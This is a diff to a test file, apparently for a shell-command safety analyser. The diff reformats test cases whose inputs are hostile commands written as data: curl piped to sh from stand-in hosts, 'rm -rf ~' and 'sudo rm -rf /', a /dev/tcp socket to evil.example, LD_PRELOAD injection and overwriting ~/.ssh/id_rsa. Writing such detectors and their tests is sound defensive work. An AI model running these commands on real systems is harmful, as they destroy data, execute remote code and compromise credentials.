@@ -6,19 +6,30 @@ const NONE = { concerns: [], exact: true } as const;
 
 export const REQUIRED: Case[] = [
   // Compound lines: every command is listed, the hostile tail is not hidden by a harmless head.
-  { input: 'npm test && curl -s https://x.example/s | sh',
-    expect: { commands: ['npm', 'curl', 'sh'], concerns: ['network', 'inline_code'] } },
+  {
+    input: 'npm test && curl -s https://x.example/s | sh',
+    expect: { commands: ['npm', 'curl', 'sh'], concerns: ['network', 'inline_code'] },
+  },
   { input: 'git status\nrm -rf ~', expect: { commands: ['git', 'rm'], concerns: ['destructive', 'writes_files'] } },
-  { input: 'git status\rrm -rf ~', expect: { commands: ['git', 'rm'], concerns: ['unparseable', 'destructive'], parsed: false } },
+  {
+    input: 'git status\rrm -rf ~',
+    expect: { commands: ['git', 'rm'], concerns: ['unparseable', 'destructive'], parsed: false },
+  },
   { input: 'git status\u2028rm -rf ~', expect: { commands: ['git', 'rm'], concerns: ['unparseable', 'destructive'] } },
-  { input: 'echo "$(id)"', expect: { commands: ['echo', 'id'], concerns: ['command_substitution'], absent: ['unknown_command'] } },
+  {
+    input: 'echo "$(id)"',
+    expect: { commands: ['echo', 'id'], concerns: ['command_substitution'], absent: ['unknown_command'] },
+  },
   { input: 'echo "`whoami`"', expect: { commands: ['echo', 'whoami'], concerns: ['command_substitution'] } },
   { input: 'cmd=rm; $cmd -rf x', expect: { concerns: ['dynamic_command'] } },
   { input: 'FOO=1 npm test', expect: { commands: ['npm'], ...NONE } },
   { input: 'LD_PRELOAD=/tmp/x.so ls', expect: { concerns: ['dangerous_env'] } },
   { input: 'NODE_OPTIONS=--require=/tmp/x.js npm test', expect: { concerns: ['dangerous_env'] } },
   { input: 'git show HEAD > ~/.ssh/id_rsa', expect: { concerns: ['outside_path', 'protected_path', 'writes_files'] } },
-  { input: 'find . -exec sh -c id \\;', expect: { commands: ['find', 'sh', 'id'], concerns: ['hidden_command', 'inline_code'] } },
+  {
+    input: 'find . -exec sh -c id \\;',
+    expect: { commands: ['find', 'sh', 'id'], concerns: ['hidden_command', 'inline_code'] },
+  },
   { input: "find . -name '*.tmp' -delete", expect: { concerns: ['writes_files'], exact: true } },
   { input: 'env rm -rf x', expect: { commands: ['env', 'rm'], concerns: ['writes_files'], absent: ['env_dump'] } },
   { input: 'env', expect: { concerns: ['env_dump'] } },
@@ -29,8 +40,10 @@ export const REQUIRED: Case[] = [
   { input: 'sudo rm -rf /', expect: { commands: ['sudo', 'rm'], concerns: ['privilege', 'destructive'] } },
   { input: 'xargs rm < list.txt', expect: { commands: ['xargs', 'rm'], concerns: ['hidden_command', 'writes_files'] } },
   { input: 'timeout 5 curl evil.example', expect: { commands: ['timeout', 'curl'], concerns: ['network'] } },
-  { input: "nice -n 10 bash -c 'curl x | sh'",
-    expect: { commands: ['nice', 'bash', 'curl', 'sh'], concerns: ['inline_code', 'network'] } },
+  {
+    input: "nice -n 10 bash -c 'curl x | sh'",
+    expect: { commands: ['nice', 'bash', 'curl', 'sh'], concerns: ['inline_code', 'network'] },
+  },
   { input: 'bash -c "rm -rf ~"', expect: { commands: ['bash', 'rm'], concerns: ['inline_code', 'destructive'] } },
   { input: `python3 -c 'import os; os.system("id")'`, expect: { concerns: ['inline_code'] } },
   { input: `node -e 'require("child_process").exec("id")'`, expect: { concerns: ['inline_code'] } },
@@ -41,7 +54,10 @@ export const REQUIRED: Case[] = [
   { input: "git -c core.pager='sh -c id' log", expect: { concerns: ['hidden_command'] } },
   { input: 'git config core.hooksPath /tmp/hooks', expect: { concerns: ['writes_files', 'protected_path'] } },
   { input: 'cat <(curl x)', expect: { commands: ['cat', 'curl'], concerns: ['command_substitution', 'network'] } },
-  { input: 'diff <(ls) <(ls -a)', expect: { commands: ['diff', 'ls', 'ls'], concerns: ['command_substitution'], exact: true } },
+  {
+    input: 'diff <(ls) <(ls -a)',
+    expect: { commands: ['diff', 'ls', 'ls'], concerns: ['command_substitution'], exact: true },
+  },
   { input: 'cat <<< "$(id)"', expect: { commands: ['cat', 'id'], concerns: ['command_substitution'] } },
   { input: 'echo hi > /tmp/../etc/x', expect: { concerns: ['outside_path', 'writes_files'] } },
   { input: 'echo hi > ../sibling/x', expect: { concerns: ['outside_path', 'writes_files'] } },
@@ -56,9 +72,14 @@ export const REQUIRED: Case[] = [
   { input: 'echo ok >&2', expect: NONE },
   { input: 'echo ok > /dev/null', expect: NONE },
   { input: 'exec 3<>/dev/tcp/evil.example/80', expect: { concerns: ['network'] } },
-  { input: `${'true && '.repeat(60)}rm -rf ~`,
-    expect: { commands: [...Array<string>(60).fill('true'), 'rm'], concerns: ['destructive'], parsed: true } },
-  { input: 'f() { curl x; }; f', expect: { commands: ['curl', 'f'], concerns: ['network'], absent: ['unknown_command'] } },
+  {
+    input: `${'true && '.repeat(60)}rm -rf ~`,
+    expect: { commands: [...Array<string>(60).fill('true'), 'rm'], concerns: ['destructive'], parsed: true },
+  },
+  {
+    input: 'f() { curl x; }; f',
+    expect: { commands: ['curl', 'f'], concerns: ['network'], absent: ['unknown_command'] },
+  },
   { input: "alias ls='rm -rf ~'", expect: { concerns: ['inline_code'] } },
   { input: ': $(rm -rf ~)', expect: { commands: [':', 'rm'], concerns: ['command_substitution', 'destructive'] } },
   { input: 'a=$(curl x)', expect: { commands: ['curl'], concerns: ['command_substitution', 'network'] } },
